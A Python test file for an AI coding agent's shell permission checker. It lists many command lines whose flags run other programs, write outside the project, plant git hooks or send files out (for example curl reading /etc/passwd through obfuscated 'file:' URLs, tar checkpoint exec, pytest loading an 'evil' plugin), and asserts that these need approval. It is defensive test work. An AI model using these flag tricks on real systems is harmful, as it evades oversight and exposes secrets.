"""Flags with which an allowed tool would run another program, write elsewhere or leave the project."""

from pathlib import Path

import pytest

from ragforge.agent.permissions import Allow, Ask
from tests.unit.judging import judge, offered

BEYOND = """
go test: go test --exec=./e
go test: go test -exec ./e ./...
go test: go test --exec ./e
go build: go build --toolexec=./e
go vet: go vet --vettool=./e
go test: go test --overlay=x.json
go test: go test -cpuprofile=../x
go test: go test --o x
go test: go test -c
go test: go test ../other
make test: make test --eval=x
make test: make test --ev=x
make test: make test -kf x
make test: make test -C../x
make test: make test SHELL=./e
make test: make test deploy
make test: make test -j SHELL=./e
make test: make test -kj SHELL=./e
make test: make test -O SHELL=./e
make test: make test -l SHELL=./e
make test: make test --jobs SHELL=./e
make test: make test --load-average SHELL=./e
rake test: rake test -r./e
rake test: rake test --require=./e
rake test: rake test --lib x
rake test: rake test -e 'system("x")'
rake test: rake test RUBYOPT=-r./e
rake test: rake test deploy
just test: just test --shell=./e
just test: just test --justfile x
just test: just test -d /tmp
just test: just test '; rm x'
just test: just --set x y test
gradle test: gradle test -I x.gradle
gradle test: gradle test --init-script=x.gradle
gradle test: gradle test -Dx=y
gradle test: gradle test --project-dir ../x
gradle test: gradle test publish
mvn test: mvn test -Dmaven.ext.class.path=x.jar
mvn test: mvn test -f x
mvn test: mvn test --file=x
mvn test: mvn test org.codehaus.mojo:exec-maven-plugin:exec
tox run: tox run -x testenv.commands=./e
tox run: tox run --override testenv.commands=./e
tox run: tox run -c x.ini
tox: tox exec -- ./e
nox: nox -f x.py
nox: nox --noxfile=x.py
eslint: eslint -c x.js .
eslint: eslint --rulesdir x .
eslint: eslint --resolve-plugins-relative-to=x .
eslint: eslint --parser ./e.js .
eslint: eslint -fo x .
eslint: eslint --format ./e.js .
prettier: prettier --plugin=./e.js .
prettier: prettier --config x.js .
prettier: prettier --write /etc/x
jest: jest --testRunner=./e.js
jest: jest --test-runner=./e.js
jest: jest --globalSetup ./e.js
jest: jest --config={}
jest: jest -c x.js
jest: jest --rootDir=..
rspec: rspec -r ./e
rspec: rspec --require=./e
rspec: rspec -I x
rspec: rspec -fd -o x
rspec: rspec --out=x
rspec: rspec ../x_spec.rb
mypy: mypy --python-executable=./e .
mypy: mypy --install-types .
mypy: mypy --config-file x.ini .
mypy: mypy --config x.ini .
mypy: mypy --junit-xml=x .
mypy: mypy --html-report x .
mypy: mypy @x
ruff check: ruff check -o x
ruff check: ruff check --output-file=x
ruff check: ruff check --config x.toml
ruff check: ruff check --fix ../x
ruff check: ruff check @x
pytest: pytest -p evil
pytest: pytest -pevil
pytest: pytest -c x.ini
pytest: pytest -o python_files=x
pytest: pytest -qo addopts=x
pytest: pytest --rootdir=/tmp
pytest: pytest --junit-xml=x
pytest: pytest --junitxml x
pytest: pytest --basetemp=src
pytest: pytest --pdbcls=evil:Evil
pytest: pytest --pastebin=all
pytest: pytest /tmp
pytest: pytest ../tests
pytest: pytest out
pytest: pytest @x
pytest: pytest $X
pytest: pytest "$X"
pytest: pytest $(cat x)
pytest: pytest *.py
ctest: ctest -S x.cmake
ctest: ctest --script x.cmake
ctest: ctest --build-and-test a b --test-command ./e
ctest: ctest -O x
ctest: ctest --test-dir=../x
cargo test: cargo test --config x.toml
cargo test: cargo test --manifest-path=../Cargo.toml
cargo test: cargo test --target-dir /tmp/x
cargo test: cargo test -Zunstable
npm test: npm test --script-shell=./e
npm test: npm test -script-shell=./e
npm test: npm test --script-s=./e
npm test: npm test --node-options=--require=./e
npm test: npm test --prefix ../x
npm test: npm test -C ../x
npm test: npm test -- --require ./e.js
npm test: npm test -- -r ./e.js
npm test: npm test -- --config=x.js
npm run lint: npm run lint -- --plugin ./e.js
docker ps: docker ps --config=x
docker: docker build /
docker: docker run x
git commit: git commit -F /etc/passwd
git commit: git commit -aF x
git commit: git commit --file=/etc/passwd
git commit: git commit --fil x
git commit: git commit -t x
git commit: git commit --template x
git commit: git commit --pathspec-from-file=x
git commit: git commit --trailer x=y
git add: git add --pathspec-from-file x
git blame: git blame --contents /etc/passwd b.py
git blame: git blame --cont=/etc/passwd b.py
git blame: git blame -S x b.py
git blame: git blame --ignore-revs-file x b.py
git diff: git diff --no-index b.py src/a.py
git diff: git diff /etc/passwd b.py
git diff: git diff ../x b.py
git diff: git diff -O/etc/passwd
git diff: git diff --pickaxe-regex /etc/passwd /dev/null
git mv: git mv e .git/hooks/pre-commit
git mv: git mv e src/../.GIT/hooks/pre-commit
black: black .git/hooks/pre-commit
git diff: git diff --output=x
git log: git log --output x
git log: git log --ext-diff
git ls-files: git ls-files -X x
git ls-files: git ls-files --exclude-from=x
git fetch: git fetch --upload-pack=./e
git merge: git merge --verify- x
git fetch: git fetch ../x
git fetch: git fetch ext::./e
git pull: git pull https://example.org/x
git pull: git pull host:x
git pull: git pull ./src
git pull: git pull --depth 1 host:x
git pull: git pull --rebase --shallow-since x host:x
git pull: git pull --dep 1 host:x
git fetch: git fetch --depth 1 host:x
git fetch: git fetch --refmap x host:x
git fetch: git fetch -q -- host:x
git push: git push host:x main
git push: git push git@example.org:x/y main
git push: git push -u host:x main
git push: git push --all host:x
git push: git push --repo=host:x
git push: git push --repo host:x
git push: git push --force-with-lease main:1 host:x
git push: git push ./src main
git merge: git merge -s x main
git merge: git merge -Fx main
git merge: git merge --strategy=x main
git cherry-pick: git cherry-pick --strategy x
git show: git show --textconv
tsc: tsc --outDir ../x
tsc: tsc -p ../x
tsc: tsc --build ../x
tsc: tsc @x
black: black --config x .
black: black /etc
isort: isort --settings-file x .
flake8: flake8 --output-file=x
flake8: flake8 --config x
flake8: flake8 --append-config=x
vitest: vitest --config=x
vitest: vitest --globals.x --coverage.reportsDirectory=/tmp
vitest: vitest -c x
phpunit: phpunit --bootstrap x.php
phpunit: phpunit -c x
pyright: pyright --pythonpath ./e
pyright: pyright --createstub x
gofmt: gofmt -cpuprofile=x
gofmt: gofmt -w ../x.go
rustfmt: rustfmt --config-path ../x
dotnet test: dotnet test -p:PreBuildEvent=./e
dotnet test: dotnet test /p:PreBuildEvent=./e
dotnet test: dotnet test --settings x
dotnet build: dotnet build -logger:./e.dll
swift test: swift test --package-path ../x
swift build: swift build -Xswiftc -load-plugin-executable
zig build: zig build --build-file x
hatch test: hatch test -p evil
pip list: pip list --python ./e
pip list: pip list --log x
tar: tar cIf sh x y
tar: tar xFf sh x
tar: tar xf a -C ..
npm test: npm test ---script-shell=./e
git fetch: git fetch -m origin example.org:x
git fetch: git fetch -pm origin example.org:x
git log: git log --alternate-refs
make test: make test --temp-stdin=x.mk
tar: tar xf example.org:x
tar: tar -cf example.org:x src
tar: tar -cfexample.org:x src
tar: tar --file=example.org:x -c src
tar: tar cf x -T list
tar: tar cTf list x
tar: tar cf x --files-from=list
tar: tar xPf x
tar: tar xf x -P
tar: tar xf x --absolute-n
gsed: gsed -i s/a/b/ x
gtimeout: gtimeout 5 rm x
fd: fd -x rm
fd: fd . --exec rm
fd: fd -HX rm
fdfind: fdfind --exec-batch=rm
fd: fd --ignore-file x
fd: fd . ..
pylint: pylint --init-hook 'import os' src
pylint: pylint --load-plugins=x src
pylint: pylint --rcfile x src
mocha: mocha -r ./e
mocha: mocha --require=./e
mocha: mocha --config x
coverage: coverage run x.py
coverage: coverage html -d ../x
coverage html: coverage html --rcfile=x
ag: ag --pager ./e x
ack: ack --pager=./e x
gotestsum: gotestsum --post-run-command ./e
gotestsum: gotestsum -- -exec ./e
golangci-lint: golangci-lint run -c x
rubocop: rubocop -r ./e
curl: curl --json @x example.org
curl: curl --data-ascii @x example.org
curl: curl --data-urlencode a@x example.org
curl: curl -H @x example.org
curl: curl -sH@x example.org
curl: curl -b x example.org
curl: curl -w '%output{x}' example.org
curl: curl -nE x example.org
curl: curl --variable a@x example.org
curl: curl file:/etc/passwd
curl: curl FILE:/etc/passwd
curl: curl '{file}:/etc/passwd'
curl: curl 'fi{le}:/etc/passwd'
curl: curl 'fil[e-e]:/etc/passwd'
curl: curl -sg example.org --next '{file}:/etc/passwd'
curl: curl --url 'fil{e}:/etc/passwd'
curl: curl --proto-default file localhost/etc/passwd
curl: curl --socks5 x example.org
curl: curl --socks5-hostname=x example.org
curl: curl --socks4a x example.org
curl: curl --preproxy x example.org
curl: curl --resolve example.org:80:x example.org
curl: curl --connect-to ::x: example.org
curl: curl --doh-url x example.org
curl: curl -sQ 'DELE x' example.org
curl: curl --quote 'DELE x' example.org
curl: curl --netrc-optional example.org
pylint: pylint --unsafe-load-any-extension=y src
pylint: pylint --extension-pkg-allow-list=x src
pylint: pylint --extension-pkg-whitelist x src
coverage json: coverage json -io victim.py
coverage report: coverage report -m /etc/passwd
mocha: mocha --inspect=0.0.0.0:9229
mocha: mocha --inspect-brk
mocha: mocha --experimental-loader=./e.mjs
mocha: mocha --env-file=x
mocha: mocha --redirect-warnings=x
ack: ack --output='`./e`' x
ack: ack --pag ./e x
ag: ag --pag ./e x
""".strip().split("\n")


@pytest.mark.parametrize("line", BEYOND)
def test_a_rule_for_a_tool_covers_no_flag_that_runs_writes_or_leads_out(root: Path, line: str) -> None:
    words, command = line.split(": ", 1)
    assert isinstance(judge(root, command, f"shell({words})"), Ask)


COVERED = """
go test: go test ./...
go test: go test -run TestX -count=1 -v -short -race ./pkg
go test: go test --timeout=30s --cover
go build: go build ./...
make test: make test -j 4 -k
make test: make -j4 test
rake test: rake test --trace
just test: just test
gradle test: gradle test --tests FooTest --info
mvn test: mvn test -q -pl core -DskipITs -Dtest=FooTest
tox run: tox run -e py311
nox: nox -s tests
eslint: eslint --fix src --ext .ts
prettier: prettier --check src
jest: jest --watch=false -t name src/x.test.ts
rspec: rspec spec/x_spec.rb:12 -fd
mypy: mypy --strict src
ruff check: ruff check --fix src
ruff format: ruff format --check .
pytest: pytest -qx tests/test_x.py -k 'a and not b' --maxfail=1
pytest: pytest -n0 --co -m 'not long' -rs --tb=short
pytest: pytest -vv 'src/a.py::TestX::test_y[1-../x]'
pytest: pytest lib/*.py
ctest: ctest --output-on-failure -j 4 -R x
cargo test: cargo test --release -p core -- --nocapture
cargo build: cargo build --features x
npm test: npm test -- --watch -t name
npm run build: npm run build --if-present
docker ps: docker ps -a
git commit: git commit -am 'fix: /etc/hosts is ../read'
git commit: git commit --message='a' --amend --no-edit
git add: git add -A src
git diff: git diff main..HEAD --stat -- src
git diff: git diff -S text
git log: git log -S text --oneline
git show: git show HEAD:src/a.py
git fetch: git fetch origin --prune
git push: git push
git push: git push -u origin feature/x
git push: git push --force-with-lease origin HEAD:refs/heads/x
git pull: git pull --rebase origin feature/x
git pull: git pull --depth 1 origin feature/x
git fetch: git fetch -q --prune --depth 1 origin feature/x:feature/x
git diff: git diff --pickaxe-regex -S text
git mv: git mv src/a.py src/b.py
git switch: git switch -c feature/x
git merge: git merge --no-ff feature/x
tsc: tsc --noEmit
black: black --check src
isort: isort --check-only src
flake8: flake8 src --max-line-length 100
pyright: pyright src
dotnet test: dotnet test --no-build
swift test: swift test --filter x
pip list: pip list --outdated
tar: tar xzf a src
fd: fd -e py x src
pylint: pylint -j 4 --disable=all src
mocha: mocha --grep x test
coverage report: coverage report -m
curl: curl -sI -H 'Accept: x' example.org
curl: curl -sL example.org/a
ack: ack --files-with-matches -A 2 x src
ag: ag --files-with-matches -A 2 x src
coverage json: coverage json -i
golangci-lint run: golangci-lint run ./...
rubocop: rubocop -a lib
""".strip().split("\n")


@pytest.mark.parametrize("line", COVERED)
def test_a_rule_for_a_tool_still_covers_its_everyday_flags(root: Path, line: str) -> None:
    words, command = line.split(": ", 1)
    if command.startswith("make -j4"):
        words = "make"
    assert judge(root, command, f"shell({words})") == Allow()


INSTALLERS = """
npm install
npm install left-pad
npm i left-pad
npm ci
npm add https://example.org/x.tgz
npm update
npm link ../x
npm init evil
npm audit fix
pip install -e .
pip3 install x
pip3.11 install x
pip install git+https://example.org/x
pip download x
uv add x
uv sync
uv pip install x
uv pip sync requirements.txt
cargo install --path .
cargo add x
cargo update
gem install x
pipx install x
pipx upgrade-all
yarn
yarn add x
yarn install
pnpm i
pnpm add x
poetry add x
poetry install
pdm add x
go install ./...
go get example.org/x
composer require x/y
bundle install
bundle add x
apt-get install x
apt install x
brew install x
conda install x
dotnet add package x
dotnet tool install x
swift package add-dependency x
python -m pip install x
python3 -m pip install -r requirements.txt
docker pull x
docker build .
deno add x
bun install
gh extension install x
helm install x y
""".strip().split("\n")


@pytest.mark.parametrize("command", INSTALLERS)
def test_an_installer_is_allowed_exactly_as_asked(root: Path, command: str) -> None:
    (rule,) = offered(judge(root, command))
    assert rule == f"shell(= {command})"
    assert judge(root, command, rule) == Allow()
    words = command.split()
    for count in range(1, len(words) + 1):
        asked_before = f"shell({' '.join(words[:count])})"
        for more in ("https://example.org/x.tgz", "../x", "evil", "--index-url=https://example.org"):
            assert isinstance(judge(root, f"{command} {more}", asked_before), Ask)
    (root / "lib").mkdir(exist_ok=True)
    assert isinstance(judge(root, f"cd lib && {command}", rule), Ask)


def test_a_tool_behind_cd_needs_a_folder_inside(root: Path) -> None:
    rule = "shell(make test)"
    assert judge(root, "cd src && make test", rule) == Allow()
    for folder in ("..", "/tmp", "out", "src/../..", "~", "$X", "not-there", "-", "b.py"):
        assert isinstance(judge(root, f"cd {folder} && make test", rule), Ask), folder
    assert isinstance(judge(root, "cd; make test", rule), Ask)
    assert isinstance(judge(root, "cd src && cd ../.. && make test", rule), Ask)
    assert isinstance(judge(root, "(cd out; ls); make test", rule), Ask)
    assert isinstance(judge(root, "ln -s / new && cd new && make test", rule, "shell(ln)"), Ask)


@pytest.mark.parametrize("folder", [".git", ".git/hooks", ".ragforge", ".GIT", "src/../.git", "src/.git"])
def test_no_rule_counts_in_a_protected_folder(root: Path, folder: str) -> None:
    (root / folder).mkdir(parents=True, exist_ok=True)
    decision = judge(root, f"cd {folder} && make test", "shell(make test)", "shell(make)")
    assert isinstance(decision, Ask)
    assert decision.rules == (), "nor is one offered"
    (root / folder / "HEAD").write_text("ref: refs/heads/main\n")
    assert judge(root, f"cd {folder} && cat HEAD") == Allow(), "what only reads stays silent"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("go test --exec=./e", "shell(= go test --exec=./e)"),
        ("pytest /tmp", "shell(= pytest /tmp)"),
        ("make test deploy", "shell(= make test deploy)"),
        ("git commit -F x", "shell(= git commit -F x)"),
        ("yarn lint", "shell(yarn lint)"),
        ("go list ./...", "shell(go list)"),
    ],
)
def test_always_offers_the_command_itself_where_a_wider_rule_would_not_hold(
    root: Path, command: str, rule: str
) -> None:
    assert offered(judge(root, command)) == [rule]
    assert judge(root, command, rule) == Allow()


SILENT_LOOKALIKES = """
git diff --no-index b.py src/a.py
git diff --no-index -- b.py /etc/passwd
git diff b.py /etc/passwd
git blame --contents /etc/passwd b.py
git blame --contents=b.py b.py
git blame -S x b.py
git blame --ignore-revs-file=/etc/passwd b.py
git log --output=x
git log --outp x
git show --output x
git diff -O/etc/passwd
git grep --no-index x
git grep -f /etc/passwd
git ls-files -X /etc/passwd
git ls-files --exclude-from=/etc/passwd
git ls-files --exclude-per-directory=x
git log --show-signature
git shortlog --output=x
git rev-parse --parseopt
git cat-file --textconv HEAD:x
git cat-file --batch
git status --untracked-files=no --output=x
git branch --edit-description
git reflog show --output=x
git stash show --output=x
git worktree list --output=x
git remote get-url --push origin x
""".strip().split("\n")


@pytest.mark.parametrize("command", SILENT_LOOKALIKES)
def test_a_reading_git_command_with_such_a_flag_is_not_silent(root: Path, command: str) -> None:
    assert isinstance(judge(root, command), Ask)


# The names under which GTFOBins knows programs that run others.
PROGRAMS_THAT_RUN = (Path(__file__).parent / "programs_that_run.txt").read_text().split()
HOW_TO_RUN = {
    "bundle": "bundle exec sh",
    "bundler": "bundler exec sh",
    "cargo": "cargo run",
    "composer": "composer exec sh",
    "curl": "curl --engine ./e x",
    "docker": "docker run x",
    "dotnet": "dotnet fsi x",
    "find": "find . -exec sh +",
    "git": "git -c core.pager=sh log",
    "go": "go run x.go",
    "kubectl": "kubectl exec x",
    "make": "make --eval=x test",
    "npm": "npm exec sh",
    "pip": "pip install .",
    "podman": "podman run x",
    "poetry": "poetry run sh",
    "rake": "rake -f x",
    "sort": "sort --compress-program=sh",
    "tar": "tar cf x --checkpoint-action=exec=sh .",
    "task": "task execute sh",
    "uv": "uv run sh",
    "wget": "wget --use-askpass=./e x",
    "yarn": "yarn exec sh",
    "zip": "zip x y -TT sh",
}


def test_the_list_of_programs_that_run_others_is_there() -> None:
    assert len(PROGRAMS_THAT_RUN) > 300


@pytest.mark.parametrize("name", PROGRAMS_THAT_RUN)
def test_a_program_that_runs_others_is_allowed_only_as_it_was_asked(root: Path, name: str) -> None:
    command = HOW_TO_RUN.get(name, f"{name} -c x")
    assert all(each == f"shell(= {command})" or "'" in each for each in offered(judge(root, command)))
    words = command.split()
    for count in range(1, len(words)):
        if name in HOW_TO_RUN and count > 1 and words[1] in {"cf", "x"}:
            break
        assert isinstance(judge(root, command, f"shell({' '.join(words[:count])})"), Ask), words[:count]
